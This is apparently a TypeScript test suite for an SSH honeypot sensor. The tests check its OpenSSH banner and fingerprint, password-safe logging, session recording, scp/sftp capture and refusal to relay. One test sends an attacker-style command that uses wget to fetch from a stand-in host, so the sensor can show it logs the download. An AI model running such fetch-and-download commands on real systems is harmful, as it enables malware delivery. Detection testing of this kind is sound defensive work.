import { deepStrictEqual, match, ok, strictEqual } from 'node:assert'
import { spawn, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, suite, test } from 'node:test'
import { setTimeout as wait } from 'node:timers/promises'
import type { Event } from '../../../../src/event/event.js'
import { DEFAULT_LIMITS } from '../../../../src/io/sensors/limits.js'
import { SensorProcess } from '../../../../src/io/sensors/sensor-process.js'
import { ALGORITHMS, SSH_BANNER } from '../../../../src/io/sensors/ssh/persona.js'
import { allOf, visitor } from '../loopback.js'

const HAS_CLIENTS = ['ssh', 'sshpass', 'sftp', 'scp'].every(
  (tool) => spawnSync('which', [tool]).status === 0,
)
const WITHOUT_CLIENTS = HAS_CLIENTS ? false : 'OpenSSH or sshpass is not installed'

let folder = ''
let sensor: SensorProcess
let events: Event[] = []

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'ssh-sensor-'))
  sensor = new SensorProcess({
    order: {
      name: 'ssh',
      hostName: 'web01',
      spool: join(folder, 'ssh'),
      limits: DEFAULT_LIMITS,
      login: 'listed',
      credentials: ['root:letmein'],
      keepsFiles: true,
      recordsSessions: true,
      isOpenRelay: false,
      tarpitMs: 0,
    },
    address: { host: '127.0.0.1', port: 0 },
    descriptor: null,
    dataPorts: [],
    userId: 65_534,
    nowMs: Date.now,
    saved: null,
  })
  await sensor.start()
})

after(async () => {
  await sensor.stop()
  rmSync(folder, { recursive: true, force: true })
})

/** Events since the last call, once one of the kind is among them. */
async function eventsUntil(kind: string): Promise<readonly Event[]> {
  for (let i = 0; i < 400; i++) {
    const batch = sensor.next()
    if (batch !== null) {
      events.push(...batch.events)
      sensor.confirm(batch)
    }
    if (events.some((event) => event.kind === kind)) {
      const seen = events
      events = []
      return seen
    }
    await wait(25)
  }
  throw new Error(`no ${kind} within 10 s`)
}

const OPTIONS = [
  '-o',
  'StrictHostKeyChecking=no',
  '-o',
  'UserKnownHostsFile=/dev/null',
  '-o',
  'NumberOfPasswordPrompts=1',
  '-F',
  '/dev/null',
]

/** Runs a client of OpenSSH with a password. */
function client(
  tool: string,
  password: string,
  words: readonly string[],
  input = '',
): Promise<{ status: number | null; out: string }> {
  return new Promise((resolve) => {
    const flag = tool === 'ssh' ? '-p' : '-P'
    const child = spawn('sshpass', [
      '-p',
      password,
      tool,
      ...OPTIONS,
      flag,
      String(sensor.status.port),
      ...words,
    ])
    let out = ''
    child.stdout.on('data', (bytes: Buffer) => (out += bytes.toString('latin1')))
    child.on('close', (status) => resolve({ status, out }))
    child.stdin.end(input)
  })
}

suite('the SSH sensor', () => {
  test('has the banner and the lists of OpenSSH 8.4p1 of Debian 11: its HASSH', async () => {
    const socket = await visitor(sensor.status.port)
    let said = Buffer.alloc(0)
    socket.on('data', (bytes: Buffer) => (said = Buffer.concat([said, bytes])))
    socket.write('SSH-2.0-Go\r\n')
    for (let i = 0; i < 100 && said.length < 900; i++) await wait(25)
    socket.destroy()
    const end = said.indexOf('\r\n')
    strictEqual(said.toString('latin1', 0, end), `SSH-2.0-${SSH_BANNER}`)
    const lists: string[] = []
    for (let at = end + 2 + 6 + 16; lists.length < 10;) {
      const size = said.readUInt32BE(at)
      lists.push(said.toString('latin1', at + 4, at + 4 + size))
      at += 4 + size
    }
    const hasshServer = [lists[0], lists[3], lists[5], lists[7]].join(';')
    strictEqual(lists[0], [...ALGORITHMS.kex, 'kex-strict-s-v00@openssh.com'].join(','))
    strictEqual(lists[1], 'rsa-sha2-512,rsa-sha2-256,ssh-rsa,ecdsa-sha2-nistp256,ssh-ed25519')
    // Of the lists of 8.4p1-5+deb11u3, put down by hand from myproposal.h of that version.
    strictEqual(
      createHash('md5').update(hasshServer).digest('hex'),
      createHash('md5')
        .update(
          'curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,diffie-hellman-group-exchange-sha256,diffie-hellman-group16-sha512,diffie-hellman-group18-sha512,diffie-hellman-group14-sha256,kex-strict-s-v00@openssh.com;chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,aes256-gcm@openssh.com;umac-64-etm@openssh.com,umac-128-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha1-etm@openssh.com,umac-64@openssh.com,umac-128@openssh.com,hmac-sha2-256,hmac-sha2-512,hmac-sha1;none,zlib@openssh.com',
        )
        .digest('hex'),
    )
    const told = await eventsUntil('connection.close')
    strictEqual(told.find(({ kind }) => kind === 'handshake')?.detail.client, 'SSH-2.0-Go')
  })

  test('sends away what is no SSH, in the words of the server it poses as', async () => {
    const socket = await visitor(sensor.status.port)
    socket.write('GET / HTTP/1.1\r\nHost: a\r\n\r\n')
    strictEqual(
      await allOf(socket),
      `SSH-2.0-${SSH_BANNER}\r\nInvalid SSH identification string.\r\n`,
    )
    const told = await eventsUntil('connection.close')
    strictEqual(
      told.find(({ kind }) => kind === 'protocol.error')?.detail.argument,
      'GET / HTTP/1.1',
    )
  })

  test(
    'records passwords that fail by their length, and the client by its HASSH',
    { skip: WITHOUT_CLIENTS },
    async () => {
      ok((await client('ssh', 'wrong', ['root@127.0.0.1', 'id'])).status !== 0)
      const told = await eventsUntil('connection.close')
      deepStrictEqual(
        told.map(({ kind }) => kind),
        ['connection.open', 'handshake', 'handshake', 'auth.failure', 'connection.close'],
      )
      match(told[2]?.detail.hassh ?? '', /^[0-9a-f]{32}$/)
      const failure = told[3] as Event
      deepStrictEqual(failure.detail, { userName: 'root', authMethod: 'password' })
      strictEqual(failure.lengthBytes, 'rootwrong'.length)
      ok(!JSON.stringify(told).includes('wrong'))
    },
  )

  test(
    'executes a command of somebody who got in, and runs nothing',
    { skip: WITHOUT_CLIENTS },
    async () => {
      const { status, out } = await client('ssh', 'letmein', [
        'root@127.0.0.1',
        'id; wget http://192.0.2.7/x; exit 7',
      ])
      strictEqual(status, 7)
      match(out, /^uid=0\(root\)/)
      const told = await eventsUntil('connection.close')
      deepStrictEqual(
        told.slice(3).map(({ kind, detail }) => [kind, detail.command ?? detail.file ?? '']),
        [
          ['auth.success', ''],
          ['command', 'id; wget http://192.0.2.7/x; exit 7'],
          ['file.download', 'http://192.0.2.7/x'],
          ['connection.close', ''],
        ],
      )
    },
  )

  test(
    'a session on a terminal can be played back, less its passwords',
    { skip: WITHOUT_CLIENTS },
    async () => {
      const { out } = await client(
        'ssh',
        'letmein',
        ['-tt', 'root@127.0.0.1'],
        'passwd\nhunter2\nhunter2\nwhoami\nexit\n',
      )
      match(out, /root@web01:~# /)
      const told = await eventsUntil('connection.close')
      deepStrictEqual(
        told.filter(({ kind }) => kind === 'command').map(({ detail }) => detail.command),
        ['passwd', 'whoami', 'exit'],
      )
      const sessions = join(folder, 'ssh', 'sessions')
      const name = readdirSync(sessions).find((one) => one.startsWith(told[0]?.session ?? '-'))
      const [head = '', ...lines] = readFileSync(join(sessions, name ?? ''), 'utf8')
        .trim()
        .split('\n')
      const { version, width } = JSON.parse(head) as { version: number; width: number }
      deepStrictEqual([version, width > 0], [2, true])
      const pieces = lines.map((line) => JSON.parse(line) as [number, string, string])
      ok(pieces.every(([at], i) => i === 0 || at >= (pieces[i - 1]?.[0] ?? 0)))
      const seen = pieces
        .filter(([, code]) => code === 'o')
        .map(([, , text]) => text)
        .join('')
      strictEqual(seen, Buffer.from(out, 'latin1').toString('utf8'))
      ok(!lines.join('').includes('hunter2'))
    },
  )

  test(
    'takes files by scp and sftp, and keeps them under their hashes',
    { skip: WITHOUT_CLIENTS },
    async () => {
      const file = join(folder, 'up.bin')
      const bytes = Buffer.from(Array.from({ length: 100_000 }, (_v, i) => (i * 7) & 255))
      writeFileSync(file, bytes)
      const sha256 = createHash('sha256').update(bytes).digest('hex')
      strictEqual((await client('scp', 'letmein', ['-O', file, 'root@127.0.0.1:/tmp/x'])).status, 0)
      const byScp = await eventsUntil('connection.close')
      strictEqual(byScp.find(({ kind }) => kind === 'file.upload')?.detail.sha256, sha256)
      const { status, out } = await client(
        'sftp',
        'letmein',
        ['-o', 'BatchMode=no', '-b', '-', 'root@127.0.0.1'],
        `put ${file} /tmp/y\nls -l /etc\n`,
      )
      strictEqual(status, 0)
      match(out, /passwd/)
      const bySftp = await eventsUntil('connection.close')
      const upload = bySftp.find(({ kind }) => kind === 'file.upload')
      deepStrictEqual(
        [upload?.detail.sha256, upload?.detail.file, upload?.lengthBytes],
        [sha256, '/tmp/y', 100_000],
      )
      deepStrictEqual(readFileSync(join(folder, 'ssh', 'files', sha256)), bytes)
    },
  )

  test('relays to nobody, and tells where to', { skip: WITHOUT_CLIENTS }, async () => {
    const { status } = await client('ssh', 'letmein', ['-W', '192.0.2.9:25', 'root@127.0.0.1'])
    ok(status !== 0)
    const told = await eventsUntil('connection.close')
    strictEqual(
      told.find(({ kind }) => kind === 'forward.request')?.detail.argument,
      '192.0.2.9:25',
    )
  })

  test('stands broken openings', async () => {
    const kexinit = Buffer.alloc(300)
    kexinit.writeUInt32BE(296)
    kexinit[5] = 20
    for (const bytes of [
      Buffer.from('SSH-2.0-x\r\n\0\0\0\0'),
      Buffer.from('SSH-2.0-x\r\n\xff\xff\xff\xff\xff\xff', 'latin1'),
      Buffer.concat([Buffer.from('SSH-2.0-x\r\n'), kexinit]),
      Buffer.from(`SSH-2.0-${'y'.repeat(5000)}\r\n`),
      Buffer.from('\r\n\r\n\r\n'),
    ]) {
      const socket = await visitor(sensor.status.port)
      socket.end(bytes)
      socket.resume()
      await wait(20)
      socket.destroy()
    }
    ok((await allOf(await closing(sensor.status.port))).startsWith('SSH-2.0-OpenSSH_8.4p1'))
    strictEqual(sensor.status.restarts, 0)
  })
})

async function closing(port: number) {
  const socket = await visitor(port)
  socket.end('none\n')
  return socket
}
